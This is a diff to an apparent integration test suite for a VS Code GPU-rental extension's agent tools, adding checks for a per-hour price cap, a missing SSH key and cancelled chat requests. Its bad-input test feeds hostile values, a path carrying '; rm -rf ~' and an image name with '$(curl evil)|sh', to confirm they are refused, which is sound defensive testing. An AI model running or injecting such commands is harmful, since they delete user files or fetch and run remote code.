@@ -24,7 +24,11 @@ const SIM_KEY = 'sim-api-key';
 
 interface LmTesting {
   tools?: readonly { name: string }[];
-  invokeTool?(name: string, options: { input: object; toolInvocationToken: undefined }): Thenable<{ content: readonly unknown[] }>;
+  invokeTool?(
+    name: string,
+    options: { input: object; toolInvocationToken: undefined },
+    token?: vscode.CancellationToken,
+  ): Thenable<{ content: readonly unknown[] }>;
 }
 const lm = (vscode as unknown as { lm?: LmTesting }).lm;
 
@@ -56,16 +60,26 @@ function noSecret(text: string, secrets: readonly (string | null | undefined)[])
 
 let home: string | undefined;
 
+/** The registered test key's id on the account (signedIn). */
+let keyId: number | undefined;
+
 async function signedIn(): Promise<Services> {
   const { services } = await getExtensionApi();
-  home = (await signedInWithSshHome(services, 'gpu-rental-agent-it-')).home;
+  const signed = await signedInWithSshHome(services, 'gpu-rental-agent-it-');
+  home = signed.home;
+  keyId = signed.key?.id;
   return services;
+}
+
+async function setGlobal(key: string, value: unknown): Promise<void> {
+  await vscode.workspace.getConfiguration('gpuRental').update(key, value, vscode.ConfigurationTarget.Global);
 }
 
 describe('agent tools', () => {
   afterEach(async () => {
     delete process.env.GPU_RENTAL_TEST_AGENT_POLL_MS;
-    await vscode.workspace.getConfiguration('gpuRental').update('budget.monthly', undefined, vscode.ConfigurationTarget.Global);
+    await setGlobal('budget.monthly', undefined);
+    await setGlobal('agent.maxPricePerHour', undefined);
     await dropRentalsAndSshHome((await getExtensionApi()).services, LABEL, home);
     home = undefined;
   });
@@ -120,7 +134,7 @@ describe('agent tools', () => {
   );
 
   it(
-    'bad input is a clear tool error and sends nothing: negative, huge and unknown ids, a hostile template path and image, a budget that would break',
+    'bad input is a clear tool error and sends nothing: negative, huge and unknown ids, a hostile template path and image, the per-hour cap setting, a budget that would break, no SSH key on the account',
     async () => {
       const services = await signedIn();
       assert.match(await refusal('instance_details', { instance_id: -3 }), /instance_id must be at least 1/);
@@ -130,10 +144,23 @@ describe('agent tools', () => {
       assert.match(await refusal('rent', { template: '.gpu/x.json; rm -rf ~' }), /inside the workspace folder/);
       assert.match(await refusal('rent', { image: 'x$(curl evil)|sh' }), /image name is not valid/);
       assert.match(await refusal('decide_price_increase', { increase_id: 424242, decision: 'accept' }), /\b424242\b/);
+      // The agents' per-hour cap: a tenth of a cent an hour rents nothing, and the refusal names the setting.
+      await setGlobal('agent.maxPricePerHour', 0.001);
+      await waitFor(() => services.settings().agent.maxPricePerHour === 0.001, 5000, 'the cap read');
+      assert.match(
+        await refusal('rent', { template: TEMPLATE }),
+        /above the per-hour cap for agents \(\$0\.001\/h, set by the setting gpuRental\.agent\.maxPricePerHour\)\. Nothing was sent/,
+      );
+      await setGlobal('agent.maxPricePerHour', undefined);
       // The budget: one cent a month cannot take a machine for an hour.
-      await vscode.workspace.getConfiguration('gpuRental').update('budget.monthly', 0.01, vscode.ConfigurationTarget.Global);
+      await setGlobal('budget.monthly', 0.01);
       await waitFor(() => services.settings().budget.monthly === 0.01, 5000, 'the budget read');
       assert.match(await refusal('rent', { template: TEMPLATE }), /monthly budget.*Nothing was sent/s);
+      await setGlobal('budget.monthly', undefined);
+      // No key of this machine on the account: refused with how to add one.
+      assert.ok(keyId, 'the test key was registered');
+      await (await services.api()).deleteSshKey(keyId);
+      assert.match(await refusal('rent', { template: TEMPLATE }), /^Nothing was rented: your account has no SSH public key .*"GPU Rental: Add SSH Key…"/s);
       assert.equal(await creations(), 0, 'nothing rented');
       assert.equal(
         (await simControl().requests()).filter((r) => r.method !== 'GET' && !r.path.includes('/bundles') && !r.path.includes('/ssh')).length,
@@ -219,14 +246,46 @@ describe('agent tools', () => {
   );
 
   it(
+    'a cancelled chat request stops the wait, not the rent: the answer says the machine is still being created; the flow goes on to running and its SSH entry',
+    async () => {
+      const { agentTools } = await getExtensionApi();
+      const services = await signedIn();
+      process.env.GPU_RENTAL_TEST_AGENT_POLL_MS = '250';
+      const cancel = new vscode.CancellationTokenSource();
+      const before = await creations();
+      // VS Code's own order: prepareInvocation (its confirmation, answered Yes), then invoke with the chat's token.
+      await agentTools!.prepare('gpuRental_rent', { template: TEMPLATE });
+      const result = agentTools!.invoke('gpuRental_rent', { template: TEMPLATE }, cancel.token);
+      const row = await waitFor(() => services.instances.instances.find((i) => LABEL.test(i.label ?? '')), 15_000, 'the new row');
+      cancel.cancel();
+      const text = (await result).content.map((p) => String((p as { value?: unknown }).value ?? '')).join('');
+      assert.match(text, new RegExp(`^The wait was cancelled, not the rent: instance ${row.id} is rented .* still being created`));
+      assert.deepEqual(
+        readInflight(services.globalState).map((r) => r.instanceId),
+        [row.id],
+        'tracked in flight as after a click',
+      );
+      await simControl().finishBoot(row.id);
+      await waitFor(() => readInflight(services.globalState).length === 0, 15_000, 'the flow to reach running and drop its record');
+      assert.match(await call('ssh_info', { instance_id: row.id }), /ssh alias: /, 'its SSH entry is written');
+      assert.equal((await creations()) - before, 1, 'exactly one machine');
+      cancel.dispose();
+    },
+    { timeoutMs: 60_000 },
+  );
+
+  it(
     "the MCP server for VS Code's agent: listed without the key; resolved, the extension host's Node runs dist/mcp.js with this window's URL and key, and it answers",
     async () => {
       const { agentTools } = await getExtensionApi();
       const services = await signedIn();
       await simControl().seed({ instances: 1 });
       const inst = (await (await services.api()).listInstances()).instances[0]!;
+      await setGlobal('agent.maxPricePerHour', 2);
+      await waitFor(() => services.settings().agent.maxPricePerHour === 2, 5000, 'the cap read');
       const def = await agentTools!.mcpServer();
       assert.ok(def, 'a server is offered when signed in');
+      assert.equal(def.resolved.env.GPU_RENTAL_MAX_DPH, '2', "the agents' per-hour cap goes to the server");
       assert.equal(def.listed.env.VAST_API_KEY, undefined, 'the listed (cached) definition carries no key');
       assert.ok(!JSON.stringify(def.listed).includes(SIM_KEY));
       const { command, args, env } = def.resolved;
